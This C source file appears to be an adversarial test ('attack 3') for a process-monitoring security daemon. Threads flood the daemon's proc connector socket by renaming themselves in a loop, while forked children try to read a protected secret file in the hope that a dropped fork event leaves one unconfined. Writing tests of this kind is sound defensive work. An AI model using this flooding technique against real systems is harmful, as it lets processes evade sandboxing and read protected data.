/*
 * connector_flood SECRET [FORKS] [SECONDS] [THREADS]: attack 3. THREADS
 * (4) threads rename themselves in a loop (each prctl(PR_SET_NAME) is a
 * proc connector event) to overflow the daemon's connector socket, while
 * the main thread forks children (at most FORKS, 2000, or for SECONDS,
 * 10) that each try to read SECRET: a child whose fork report was
 * dropped could be taken for an unknown, default-domain process.
 * Succeeds if any child read it. (THREADS 0: the same forks unflooded.)
 */
#include "adversarial.h" /* first: it defines _GNU_SOURCE */

#include <pthread.h>
#include <stdatomic.h>
#include <sys/prctl.h>
#include <sys/wait.h>

#define MAX_FLOODERS 64

static atomic_int stop;

static void *flood(void *arg) {
    (void)arg;
    char name[16];
    for (unsigned long i = 0; !atomic_load_explicit(&stop, memory_order_relaxed); i++) {
        snprintf(name, sizeof name, "flood%lu", i % 100000);
        prctl(PR_SET_NAME, name, 0, 0, 0);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2) verdict(BROKEN, "usage: connector_flood SECRET [FORKS] [SECONDS] [THREADS]");
    long forks = argc > 2 ? atol(argv[2]) : 2000;
    double seconds = argc > 3 ? atof(argv[3]) : 10.0;
    int flooders = argc > 4 ? atoi(argv[4]) : 4;
    if (flooders < 0 || flooders > MAX_FLOODERS) verdict(BROKEN, "THREADS must be 0 to %d", MAX_FLOODERS);
    pthread_t threads[MAX_FLOODERS];
    for (int i = 0; i < flooders; i++)
        if (pthread_create(&threads[i], NULL, flood, NULL) != 0) verdict(BROKEN, "pthread_create failed");
    double end = now_s() + seconds;
    long tried = 0, read_it = 0, denied = 0, other = 0;
    int other_err = 0;
    while (tried < forks && now_s() < end && read_it == 0) {
        pid_t pid = fork();
        if (pid < 0) {
            if (errno == EAGAIN) break;
            other++;
            other_err = errno;
            break;
        }
        if (pid == 0) {
            char buf[256];
            int err = read_line(argv[1], buf, sizeof buf);
            /* 0: read it; 1: denied; 2: failed otherwise. */
            _exit(err == 0 ? 0 : is_denial(err) ? 1 : 2);
        }
        tried++;
        int status;
        if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status)) {
            other++;
            continue;
        }
        switch (WEXITSTATUS(status)) {
            case 0:
                read_it++;
                break;
            case 1:
                denied++;
                break;
            default:
                other++;
        }
    }
    atomic_store(&stop, 1);
    for (int i = 0; i < flooders; i++) pthread_join(threads[i], NULL);
    if (read_it)
        verdict(SUCCEEDED, "child %ld of %ld read %s while %d threads flooded the connector", tried, forks, argv[1],
                flooders);
    if (denied && !other)
        verdict(BLOCKED, "all %ld children were denied reading %s while %d threads flooded the connector", denied,
                argv[1], flooders);
    verdict(BROKEN, "%ld children: %ld denied, %ld failed otherwise (%s)", tried, denied, other,
            other_err ? strerror(other_err) : "bad exit");
}
